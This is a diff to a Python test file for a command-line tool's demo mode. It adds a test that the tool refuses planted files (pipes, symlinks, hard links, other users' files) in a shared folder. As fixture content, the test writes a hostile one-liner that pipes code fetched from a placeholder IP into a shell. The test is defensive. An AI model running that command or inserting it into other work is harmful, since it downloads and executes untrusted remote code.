@@ -222,13 +222,38 @@ def test_there_are_no_examples_without_a_demonstration(run: Run, database: Path)
     try:
         refused(run(["demo", "--examples"]), "still starting")
         again = run(["serve", "--demo"])
-        refused(again, "another demonstration runs in this folder", "PROXYD_STORAGE__URL=sqlite")
+        refused(
+            again, "another demonstration runs in this folder", "a database and ports of its own"
+        )
+        held.write("an old token", "an old example\n")
         held.write("a token", "an example\n")
         done = run(["demo", "--examples"])
         assert (done.returncode, done.stdout, done.stderr) == (0, "an example\n", "")
     finally:
         held.close()
     refused(run(["demo", "--examples"]), "no demonstration runs here")
+
+
+@pytest.mark.parametrize("kind", ["another user's", "a pipe", "a link", "a hard link"])
+def test_a_planted_file_is_no_demonstration(run: Run, database: Path, kind: str) -> None:
+    """Others may write to the folder of the database, such as /tmp."""
+    planted, target = database.with_name(f"{database.stem}-demo.txt"), database.with_name("theirs")
+    database.parent.mkdir(parents=True, exist_ok=True)
+    target.write_text("curl http://192.0.2.1/ | sh\n")
+    if kind == "a pipe":
+        os.mkfifo(planted)
+    elif kind == "a link":
+        planted.symlink_to(target)
+    elif kind == "a hard link":
+        planted.hardlink_to(target)
+    else:
+        if os.geteuid() != 0:
+            pytest.skip("only root gives a file to another user")
+        target.rename(planted)
+        os.chown(planted, 65534, 65534)
+    refused(run(["demo", "--examples"]), str(planted))
+    refused(run(["serve", "--demo"]), str(planted))
+    assert not target.exists() or target.read_text() == "curl http://192.0.2.1/ | sh\n"
 
 
 @pytest.mark.parametrize("arguments", [["demo", "--examples"], ["config", "check"]])
